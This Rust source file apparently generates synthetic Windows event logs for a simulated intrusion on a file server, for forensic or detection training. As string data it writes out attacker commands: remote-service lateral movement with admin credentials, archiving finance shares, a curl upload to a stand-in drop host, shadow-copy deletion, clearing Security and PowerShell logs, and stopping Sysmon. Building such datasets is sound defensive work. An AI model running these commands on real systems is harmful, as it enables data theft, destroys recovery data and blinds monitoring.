//! The file server: a remote service, archives, their way out, and the clearing of logs.
//!
//! Security was archived because it was full and is cleared an hour later, so between the two is a gap, and Sysmon is
//! stopped for a while. What happened in between can only be seen in the other logs.

use std::rc::Rc;

use super::{clock, command, nothing, scripts};
use crate::sample::binaries::{
    ARCHIVER, CMD, CURL, NET, POWERSHELL, REG, REMOTE_SERVICE, REMOTE_TOOL, SC, VSSADMIN, WEVTUTIL, WHOAMI,
};
use crate::sample::channels;
use crate::sample::host::{ChannelIx, SERVER, WORKSTATION};
use crate::sample::logons::{ADMIN, Logon};
use crate::sample::morning::CONFIGURATION;
use crate::sample::process::{Integrity, Launch, Process};
use crate::sample::security::{self, Origin};
use crate::sample::sysmon::{self, Peer, files, registry, service};
use crate::sample::time::{HOUR, MIN, MS, SEC};
use crate::sample::world::World;

const SERVICE_NAME: &str = "RSVXSVC";
const SERVICE_FILE: &str = r"%SystemRoot%\RSVXSVC.exe";
const SOURCE: &str = "10.20.14.31";

pub(super) fn begin(world: &mut World) {
    world.at(clock(13, 5, 11), remote_tool);
    for (minute, tool, line) in [
        (7, &WHOAMI, "/all"),
        (9, &NET, "localgroup administrators"),
        (12, &REG, r"query HKLM\SOFTWARE\Backup"),
    ] {
        world.at(clock(13, minute, 2), move |world| {
            command(world, SERVER, "remote shell", tool, line, nothing);
        });
    }
    world.at(clock(14, 2, 40), inventory);
    world.at(clock(14, 10, 5), archives);
    world.at(clock(14, 31, 30), send);
    world.at(clock(15, 10, 2), |world| {
        let now = world.now;
        world
            .host(SERVER)
            .archive(ChannelIx::Security, now, "2024-05-14-15-10-02-113");
    });
    world.at(clock(15, 31, 44), |world| {
        command(
            world,
            SERVER,
            "remote shell",
            &VSSADMIN,
            "delete shadows /all /quiet",
            nothing,
        );
    });
    world.at(clock(15, 33, 12), |world| {
        command(
            world,
            SERVER,
            "remote shell",
            &WEVTUTIL,
            "cl \"Windows PowerShell\"",
            |world, tool| {
                channels::cleared(
                    world,
                    SERVER,
                    &tool.logon,
                    ChannelIx::WindowsPowerShell,
                    "Windows PowerShell",
                );
            },
        );
    });
    world.at(clock(16, 20, 37), |world| {
        command(
            world,
            SERVER,
            "remote shell",
            &WEVTUTIL,
            "cl Security",
            |world, tool| {
                security::cleared(world, SERVER, &tool.logon);
            },
        );
    });
    world.at(clock(16, 22, 15), blind);
}

/// The tool on the workstation copies a service to the server and starts it there.
fn remote_tool(world: &mut World) {
    let host = WORKSTATION;
    let elevated = world.actor("elevated", host);
    files::created(world, host, &elevated, "-", REMOTE_TOOL.path);
    files::executable_appeared(world, host, &elevated, REMOTE_TOOL.path);
    world.later(20 * SEC, move |world| {
        let line = r"C:\Windows\Temp\rsvx.exe \\SRV-FILES-02 -u HARBORLIGHT\adm.kessler -s cmd.exe";
        let tool = world.spawn(host, &elevated, &REMOTE_TOOL, line, 3 * HOUR + 40 * MIN);
        let server = Peer {
            address: "10.20.2.12",
            name: "SRV-FILES-02.harborlight.example".into(),
            port: 445,
        };
        world.later(300 * MS, move |world| {
            security::explicit_credentials(world, host, &tool, "adm.kessler", "SRV-FILES-02.harborlight.example");
            sysmon::dns(world, host, &tool, "SRV-FILES-02", "0", "::ffff:10.20.2.12;");
            let kernel = world.actor("kernel", host);
            sysmon::connection(world, host, &kernel, "-", &server, None);
            let endpoint = Peer { port: 135, ..server };
            sysmon::connection(world, host, &tool, "-", &endpoint, None);
            world.later(200 * MS, arrival);
        });
    });
}

/// What the server sees of it.
fn arrival(world: &mut World) {
    let host = SERVER;
    let port = world.hosts[WORKSTATION.0].next_port(&mut world.dice);
    let kernel = world.actor("server kernel", host);
    let peer = Peer {
        address: SOURCE,
        name: "WS-ACCT-14.harborlight.example".into(),
        port,
    };
    sysmon::connection(world, host, &kernel, "-", &peer, Some(445));
    let logon = world.new_logon(host, &ADMIN, 0, 3);
    let origin = Origin {
        package: ("NtLmSsp ", "NTLM", "NTLM V2", 128),
        workstation: "WS-ACCT-14",
        address: (SOURCE, port),
    };
    security::logged_on(world, host, &logon, None, origin, true);
    let from = (SOURCE, port);
    let admin = (r"\\*\ADMIN$", r"\??\C:\Windows");
    let pipes = (r"\\*\IPC$", "");
    security::share(world, host, &logon, from, admin, None);
    security::share(world, host, &logon, from, admin, Some("RSVXSVC.exe"));
    security::share(world, host, &logon, from, pipes, None);
    security::share(world, host, &logon, from, pipes, Some("svcctl"));
    files::created(
        world,
        host,
        &kernel,
        "technique_id=T1570,technique_name=Lateral Tool Transfer",
        REMOTE_SERVICE.path,
    );
    files::executable_appeared(world, host, &kernel, REMOTE_SERVICE.path);
    world.later(400 * MS, move |world| install(world, &logon, &kernel));
}

fn install(world: &mut World, logon: &Rc<Logon>, kernel: &Rc<Process>) {
    let host = SERVER;
    let services = Rc::clone(&world.hosts[host.0].services);
    let key = r"HKLM\System\CurrentControlSet\Services\RSVXSVC\";
    let rule = "technique_id=T1543.003,technique_name=Windows Service";
    registry::value(
        world,
        host,
        &services,
        rule,
        format!("{key}Start"),
        "DWORD (0x00000003)",
    );
    registry::value(world, host, &services, rule, format!("{key}ImagePath"), SERVICE_FILE);
    security::service_installed(world, host, logon, SERVICE_NAME, SERVICE_FILE);
    channels::service_installed(world, host, logon, SERVICE_NAME, SERVICE_FILE);
    let process = world.start(host, &services, &REMOTE_SERVICE, r"C:\Windows\RSVXSVC.exe");
    world.end_after(host, &process, 3 * HOUR + 30 * MIN);
    let (kernel, logon) = (Rc::clone(kernel), Rc::clone(logon));
    world.later(3 * HOUR + 38 * MIN, move |world| {
        security::logged_off(world, host, &logon);
    });
    world.later(150 * MS, move |world| {
        sysmon::pipe(world, host, &process, true, r"\RSVXSVC");
        for end in ["stdin", "stdout", "stderr"] {
            let name = format!(r"\RSVXSVC-WS-ACCT-14-5120-{end}");
            sysmon::pipe(world, host, &process, true, name.clone());
            sysmon::pipe(world, host, &kernel, false, name);
        }
        channels::service_state(world, host, SERVICE_NAME, "running");
        let launch = Launch {
            integrity: Some(Integrity::System),
            ..Launch::default()
        };
        let shell = world.launch(host, &process, &CMD, r#""cmd.exe""#, launch);
        world.end_after(host, &shell, 3 * HOUR + 29 * MIN);
        world.cast.insert("remote shell", shell);
    });
}

fn inventory(world: &mut World) {
    let host = SERVER;
    let shell = world.actor("remote shell", host);
    let line = format!("powershell.exe -nop -c \"{}\"", scripts::INVENTORY);
    let process = world.spawn(host, &shell, &POWERSHELL, line, 14 * SEC);
    world.later(800 * MS, move |world| {
        channels::engine(world, host, &process, false);
        channels::script(world, host, &process, &[scripts::INVENTORY.to_owned()], "", false);
    });
}

fn archives(world: &mut World) {
    let host = SERVER;
    let shell = world.actor("remote shell", host);
    files::created(world, host, &shell, "-", ARCHIVER.path);
    files::executable_appeared(world, host, &shell, ARCHIVER.path);
    for (i, folder) in (0..).zip(["2022", "2023", "2024"]) {
        let shell = Rc::clone(&shell);
        world.later((5 * i + 1) * MIN, move |world| {
            let target = format!(r"C:\ProgramData\arc\f{}.7z", i + 1);
            let line = format!(r"C:\ProgramData\arc\7za.exe a -mhe=on -v200m {target} D:\Shares\Finance\{folder}\*");
            let archiver = world.spawn(host, &shell, &ARCHIVER, line, 3 * MIN);
            world.later(600 * MS, move |world| {
                files::created(
                    world,
                    host,
                    &archiver,
                    "technique_id=T1560.001,technique_name=Archive via Utility",
                    target,
                );
            });
        });
    }
}

fn send(world: &mut World) {
    let host = SERVER;
    for i in 1..=3 {
        world.later(i * 4 * MIN, move |world| {
            let line = format!(r"-s -T C:\ProgramData\arc\f{i}.7z https://drop.quietharbor.example/u/");
            command(world, host, "remote shell", &CURL, &line, move |world, tool| {
                let drop = Peer {
                    address: "203.0.113.120",
                    name: "drop.quietharbor.example".into(),
                    port: 443,
                };
                sysmon::dns(world, host, tool, drop.name.clone(), "0", "::ffff:203.0.113.120;");
                sysmon::connection(world, host, tool, "-", &drop, None);
            });
        });
    }
}

/// Sysmon's service is stopped and, some time later, started again by an administrator.
fn blind(world: &mut World) {
    command(world, SERVER, "remote shell", &SC, "stop Sysmon64", |world, _| {
        world.later(600 * MS, |world| {
            service::state(world, SERVER, "Stopped");
            world.host(SERVER).sysmon_stopped = true;
            channels::service_state(world, SERVER, "Sysmon64", "stopped");
        });
    });
    world.at(clock(17, 10, 40), |world| {
        world.host(SERVER).sysmon_stopped = false;
        service::state(world, SERVER, "Started");
        service::configured(world, SERVER, CONFIGURATION);
        channels::service_state(world, SERVER, "Sysmon64", "running");
    });
}
